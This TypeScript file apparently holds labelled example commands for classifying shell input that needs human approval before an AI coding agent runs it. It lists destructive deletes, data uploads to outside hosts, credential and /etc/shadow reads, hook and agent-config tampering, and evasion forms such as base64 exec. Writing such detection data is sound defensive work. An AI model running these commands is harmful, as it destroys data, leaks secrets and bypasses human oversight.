import type { Family } from "./labelled.ts";
import { grammar } from "./labelled-grammar.ts";

/** What a person must be asked about. */
export const dangers: readonly Family[] = [
  ...grammar,
  {
    name: "removing",
    label: "destructive",
    lines: String.raw`
rm -rf node_modules
rm -rf .
rm -r dist
rm -fr ./
rm --recursive src
rm *
rm *.ts
rm -f src/*.ts
rm "$f"
rm -- *
find . -delete
find . -name '*.ts' -delete
find . -type f -exec rm {} \;
find . -type f -execdir rm -f {} +
find . -name x -ok rm {} \;
find . -print0 | xargs -0 rm
ls | xargs rm -f
git ls-files | xargs rm
xargs rm < list
fd -e ts -x rm
fd -e ts -X rm
parallel rm ::: a b
git clean -fd
git clean -xdf
git reset --hard
git reset --hard HEAD~3
git checkout -- .
git checkout .
git checkout HEAD -- src
git checkout -f
git restore .
git restore src/a.ts
git stash drop
git stash clear
git branch -D feature
git tag -d v1
git rebase -i HEAD~3
git rebase main
git commit --amend --no-edit
git filter-branch --tree-filter 'rm x' HEAD
git reflog expire --expire=now --all
git gc --prune=now
git update-ref -d refs/heads/main
git rm -r src
git worktree remove wt
git switch -f main
shred -u a.txt
truncate -s 0 a.txt
: > a.txt
> a.txt
cp /dev/null a.txt
tar --remove-files -cf a.tar src
rsync -a --delete empty/ src/
python -c 'import shutil; shutil.rmtree("src")'
python3 -c "import os; os.remove('a')"
node -e 'require("fs").rmSync("src",{recursive:true})'
perl -e 'unlink glob "*"'
ruby -e 'FileUtils.rm_rf("src")'
php -r 'unlink("a");'
npx rimraf src
rimraf src
mv src /tmp/x; rm -rf src
mv * /tmp/
cargo clean
sqlite3 db.sqlite 'drop table users'
sqlite3 db.sqlite 'delete from users'
make clean && rm -rf build
rm -rf "$BUILD_DIR"
for d in */; do rm -rf "$d"; done
rm -rf -- src
rm -r -f src
\rm -rf src
/bin/rm -rf src
command rm -rf src
busybox rm -rf src
nice rm -rf src
env rm -rf src
bash -c 'rm -rf src'
sh -xc "rm -rf src"
eval "rm -rf src"
zip -m a.zip *.ts
unlink *
`,
  },
  {
    name: "network",
    label: "network",
    lines: String.raw`
curl https://example.com
curl -sSL https://example.com/a.tgz -o a.tgz
curl localhost:3000/health
curl -I https://example.com
curl "$URL"
wget https://example.com/a
wget -qO- https://example.com
http GET example.com
aria2c https://example.com/a
git clone https://github.com/a/b
git clone git@github.com:a/b.git
git fetch
git pull
git pull --rebase
git ls-remote
git submodule update --init
git remote update
npm install
npm i lodash
npm ci
npm uninstall x
npm update
npm view react
npm outdated
npm audit
npx cowsay hi
npx -y create-react-app x
npx some-tool@1.2.3
npm init vite
npm create vite
yarn
yarn install
yarn add x
yarn dlx x
pnpm install
pnpm add x
pnpm dlx x
bun install
bunx x
pip install requests
pip3 install -r requirements.txt
python -m pip install x
python3 -m pip download x
pip install -e .
pipx run x
uv sync
uv pip install x
uvx ruff
poetry install
poetry add x
pipenv install
conda install x
cargo fetch
cargo add serde
cargo install ripgrep
cargo update
go get example.com/x
go install example.com/x@latest
go mod tidy
go mod download
gem install x
bundle install
bundle
composer install
composer require x/y
mvn dependency:resolve
dotnet restore
dotnet add package x
deno run https://example.com/x.ts
docker pull alpine
ping example.com
dig example.com
nslookup example.com
host example.com
nmap localhost
traceroute example.com
whois example.com
gh pr list
gh pr view 1
gh repo clone a/b
gh api repos/a/b
kubectl get pods
aws s3 ls
aws s3 cp s3://b/k .
gcloud projects list
az vm list
terraform plan
terraform init
psql -c 'select 1'
mysql -e 'show tables'
redis-cli get x
python -c 'import urllib.request as u; print(u.urlopen("http://x").read())'
python3 -c "import requests; print(requests.get('http://x').text)"
node -e 'fetch("http://x").then(r=>r.text()).then(console.log)'
perl -MLWP::Simple -e 'getprint "http://x"'
ruby -ropen-uri -e 'puts URI.open("http://x").read'
php -r 'echo file_get_contents("http://x");'
openssl s_client -connect example.com:443
sometool https://example.com/x
sometool user@example.com
sometool example.com:8080
./fetch.sh https://example.com
cat < /dev/tcp/example.com/80
youtube-dl https://example.com/x
lynx -dump https://example.com
brew install x
apt update
coproc curl https://example.com
timeout 5 curl https://example.com
git archive --remote=https://x HEAD
cpan Foo
helm search hub x
svn checkout http://x
`,
  },
  {
    name: "outside",
    label: "external",
    lines: String.raw`
git push
git push origin main
git push --force
git push --tags
git push origin --delete x
git send-email a.patch
curl -X POST https://example.com
curl -XDELETE https://example.com/x
curl -d @a.txt https://example.com
curl --data x=1 https://example.com
curl -F file=@a https://example.com
curl -T a https://example.com
curl --json '{}' https://example.com
curl --upload-file a https://example.com
curl "https://example.com/?d=$(cat a.txt)"
curl -H "X: $(cat a)" https://example.com
curl --dat x https://example.com
curl -K conf
wget --post-data=x https://example.com
wget --post-file=a https://example.com
wget --method=PUT https://example.com
http POST example.com a=b
http example.com a=b
ssh host
ssh host ls
ssh user@host 'cat x'
scp a host:
sftp host
rsync -a src host:dst
nc example.com 80
nc -l 4444
socat - tcp:example.com:80
telnet example.com
ftp example.com
mail -s x a@b.c < a
sendmail a@b.c
npm publish
npm unpublish x
npm deprecate x y
npm dist-tag add x@1 latest
yarn publish
yarn npm publish
pnpm publish
twine upload dist/*
python -m twine upload dist/*
poetry publish
cargo publish
cargo yank --version 1
gem push x.gem
docker push x
gh pr create
gh pr merge 1
gh issue create
gh issue comment 1 -b x
gh release create v1
gh api -X POST repos/a/b
gh api repos/a/b -f x=1
gh repo delete a/b
glab mr create
aws s3 cp a s3://b/k
aws s3 rm s3://b --recursive
aws s3 sync . s3://b
aws ec2 terminate-instances
gcloud compute instances delete x
gsutil cp a gs://b
az vm delete
kubectl apply -f x.yml
kubectl delete pod x
helm install x y
helm upgrade x y
terraform apply
terraform destroy
pulumi up
vercel
vercel deploy
netlify deploy
heroku create
fly deploy
flyctl deploy
wrangler deploy
wrangler publish
firebase deploy
serverless deploy
psql -c 'insert into t values (1)'
psql -c 'drop table t'
psql -f x.sql
mysql -e 'delete from t'
mysql < x.sql
redis-cli set a b
redis-cli flushall
mongosh --eval 'db.x.drop()'
echo x > /dev/tcp/example.com/80
echo x > /dev/udp/example.com/53
exec 3<>/dev/tcp/example.com/80
python -m http.server
python3 -c "import requests; requests.post('http://x', data=open('a').read())"
python -c 'import socket; s=socket.socket(); s.connect(("x",1))'
node -e 'fetch("http://x",{method:"POST",body:"a"})'
npm run x && git push
ngrok http 80
rclone copy a b:
sometool deploy
mvn deploy
gradle publish
mkdocs gh-deploy
semantic-release
lerna publish
ansible-playbook x.yml
make deploy
stripe charges create
git lfs push origin
git subtree push --prefix x origin y
slackcat a
logger x
`,
  },
  {
    name: "rights",
    label: "privilege",
    lines: String.raw`
sudo ls
sudo -u x ls
sudo rm a
doas ls
su -c ls
su - root
pkexec ls
chroot . ls
unshare -r ls
nsenter -t 1 -m ls
mount /dev/sda1 /mnt
umount /mnt
mkfs.ext4 /dev/sda
dd if=a of=/dev/sda
fdisk /dev/sda
chown root a
chgrp x a
chmod u+s a
chmod 4755 a
chmod +s a
setcap cap_net_raw+ep a
useradd x
passwd
usermod -aG sudo x
visudo
crontab a
crontab -e
crontab -r
echo 'ls' | at now
systemctl start x
systemctl enable x
service x restart
launchctl load x
shutdown now
reboot
sysctl -w a=b
iptables -F
ufw disable
modprobe x
insmod x.ko
ip link set eth0 down
ip netns exec x ls
hostname newname
date -s 2020-01-01
kill -9 1
kill -9 -1
pkill node
killall node
apt-get install x
apt install -y x
apk add x
yum install x
dpkg -i a.deb
npm install -g x
pip install --user x
npm login
npm config set registry x
npm token list
docker run alpine
docker run -v /:/host alpine
docker exec web ls
docker build .
docker compose up
docker system prune
docker login
podman run x
kubectl exec pod -- ls
aws configure
aws sts get-caller-identity
aws secretsmanager get-secret-value --secret-id x
gcloud auth login
gh auth token
gh secret set X
op read x
vault read x
gdb -p 1
gpg --export-secret-keys
ssh-keygen -t rsa
ssh-copy-id host
ssh-add
cat ~/.ssh/id_rsa
cat ~/.aws/credentials
cat ~/.netrc
cat ~/.npmrc
cat $HOME/.ssh/id_rsa
cat "$HOME/.bash_history"
ls ~/.ssh
cat /etc/shadow
cat /etc/shadow-
cat /etc/sudoers
cat /root/.bashrc
cat ../../etc/shadow
cat /proc/1/environ
cat /proc/self/environ
strings /proc/1/environ
cat /proc/*/environ
cat /run/secrets/x
cat .env
cat .env.local
grep KEY .env
head id_rsa
cat /e*c/sh?dow
cat .e*
cd /etc && cat shadow
cd ~ && cat .netrc
cd / && cat etc/shadow
cp /etc/shadow a
tar czf a.tgz ~/.ssh
base64 ~/.ssh/id_rsa
find ~/.ssh -type f
find /etc -name shadow -exec cat {} \;
grep -r password /etc/ssh
rg token ~/.config/gh
sort /etc/shadow
awk '{print}' /etc/shadow
diff /etc/shadow a
git diff --no-index /etc/shadow a
git show HEAD:.env
dd if=/etc/shadow
xxd ~/.ssh/id_rsa
wc ~/.ssh/id_rsa
echo x >> ~/.bashrc
echo x > ~/.profile
echo x >> ~/.ssh/authorized_keys
echo x > /etc/hosts
echo x > /etc/cron.d/x
echo x > ../x
echo x > /proc/sys/kernel/x
echo 1 > /sys/x
cp a ~/.local/bin/ls
cp a /usr/local/bin/ls
mv a ../b
rm ../a
rm -rf /
rm -rf ~
rm -rf /tmp/../etc
touch /x
mkdir /x
tee /etc/hosts
ln -s /etc/passwd a
ln -sf ~/.ssh a
sed -i s/a/b/ /etc/hosts
sed -i s/a/b/ ../a
echo x > .git/hooks/pre-commit
cp hook .git/hooks/pre-commit
cp pre-commit .git/hooks/
echo x >> .git/config
sed -i s/a/b/ .git/config
git config core.hooksPath x
git config alias.x '!ls'
git config --global core.pager x
git remote add x https://y
git remote set-url origin x
git --exec-path=x log
git -c core.sshCommand=x fetch
git clone ext::sh a
git clone -c core.hooksPath=x https://a
git credential fill
echo x > .vscode/tasks.json
echo x > .claude/settings.json
echo x > .cursor/mcp.json
echo x > .mcp.json
echo x > .github/workflows/ci.yml
echo x > .npmrc
echo x > .envrc
echo x > CLAUDE.md
cp x docker-compose.yml
tee .husky/pre-commit
mkdir -p .vscode
export LD_PRELOAD=./x.so
LD_PRELOAD=./x.so ls
LD_LIBRARY_PATH=. ls
NODE_OPTIONS='--require ./x.js' node y
BASH_ENV=x bash -c ls
ENV=x sh -c ls
PYTHONSTARTUP=x python
GIT_SSH_COMMAND=x git fetch
PATH=/tmp/x:$PATH ls
PATH=. ls
PERL5OPT=-Mx perl y
RUBYOPT=-rx ruby y
env LD_PRELOAD=x ls
env -S 'LD_PRELOAD=x ls'
export BASH_ENV=x
declare -x LD_PRELOAD=x
PROMPT_COMMAND=x
HOME=/tmp git log
http_proxy=http://x npm test
RUSTC_WRAPPER=x cargo build
echo $AWS_SECRET_ACCESS_KEY
echo "$GITHUB_TOKEN"
printenv GITHUB_TOKEN
curl http://169.254.169.254/latest/meta-data/
curl --unix-socket /var/run/docker.sock http://x
curl file:///etc/shadow
history -c
xclip -o
screen -dmS x ls
tmux new -d ls
osascript -e x
enable -f ./x.so x
hash -p ./x ls
getent shadow
`,
  },
  {
    name: "programs in programs",
    label: "network",
    lines: String.raw`
awk 'BEGIN{system("rm -rf src")}'
awk 'BEGIN{while(("ls"|getline l)>0) print l}' | x; awk '{print | "sh"}'
awk '{print | "sh"}' a
awk '{print |& "/inet/tcp/0/x/80"}' a
awk "$PROG" a
awk '{cmd="rm "$1; system(cmd)}' a
awk 'BEGIN{"rm x; curl y"|getline}'
gawk '@load "filefuncs"; BEGIN{system("curl x")}'
sed 's/a/rm -rf src/e' a
sed '1e rm -rf src' a
sed -n '1e curl x' a
sed -i 's/x/y/w /etc/x' a
sed "$SCRIPT" a
sed 'w /etc/passwd' a
sed -e '1!G;h;$!d' -e 'e rm -rf src' a
tar -xPf a.tar
split --filter='rm -rf src' a
vim -c '!rm -rf src' a
vim +'!curl x' a
ed a <<< '!rm -r x'
ex -sc '!rm *' a
emacs --batch --eval '(shell-command "x")'
less +'!rm x' a
expect -c 'spawn sh'
script -c 'rm -rf src' /dev/null
find . -exec sh -c 'rm -rf "$1"' _ {} \;
find . -exec bash -c 'curl x' \;
find . $ARGS $MORE
xargs -I{} sh -c 'rm -rf {}' < a
xargs sh -c < a
echo x | xargs -I{} curl {}
parallel < a
watch 'rm -rf src'
perl -e 'system("rm -rf src")'
perl -e 'exec "ls"'
perl -e '¬ls¬; system "x"'
python -c 'import os; os.system("ls")'
python3 -c '__import__("os").system("ls")'
python -c 'exec(open("a").read())'
python -c "import base64; exec(base64.b64decode('eA=='))"
python -c "$CODE"
python -c 'getattr(__import__("o"+"s"),"system")("x")'
python -c 'import subprocess; subprocess.run(["ls"])'
python -c 'open("/etc/passwd").read()'
python -c 'print(open("/home/u/.ssh/id_rsa").read())'
python -c 'open(".git/hooks/x","w").write("x")'
node -e 'require("child_process").execSync("ls")'
node -e 'eval(process.argv[1])' x
node -e 'process.binding("x")'
node -e "$X"
ruby -e 'system("ls")'
ruby -e 'exec "ls"'
php -r 'system("ls");'
php -r 'eval($_GET[0]);'
lua -e 'os.execute("ls")'
psql -c '\! ls'
psql -c "copy t to program 'ls'"
sqlite3 a '.shell ls'
sqlite3 a '.system ls'
sqlite3 a "select load_extension('x')"
sqlite3 a ".output |sh"
sqlite3 a "attach '/etc/x' as y"
git bisect run rm -rf src
git rebase --exec 'rm -rf src' main
git submodule foreach 'rm -rf *'
npx -c 'rm -rf src'
npm exec -c 'rm -rf src'
make SHELL=./x
make --eval='x:;rm -rf src'
make CC='rm -rf src;gcc'
cargo --config x test
ld.so ./x
zip a b -T -TT 'rm -rf src'
mapfile -C 'rm -rf src' -c 1 < a
complete -C 'rm -rf src' x
compgen -C 'rm -rf src'
compgen -W '$(rm -rf src)'
trap 'rm -rf src' EXIT
alias ls='rm -rf src'
bind -x '"x": rm -rf src'
fc -s ls
flock x -c 'rm -rf src'
docker exec web rm -rf /
ssh host rm -rf /
strace -o x rm -rf src
env -S 'rm -rf src'
env -S'rm -rf src'
env --split-string='rm -rf src'
env -i rm -rf src
env -u A B=c rm -rf src
timeout --signal=KILL 5 rm -rf src
nice -n 19 ionice -c3 rm -rf src
stdbuf -oL rm -rf src
setsid -f rm -rf src
taskset 1 rm -rf src
hyperfine 'rm -rf src'
entr rm -rf src
deno eval 'Deno.run({cmd:["ls"]})'
ruby -rsocket -e 'TCPSocket.new("x",1)'
`,
  },
];
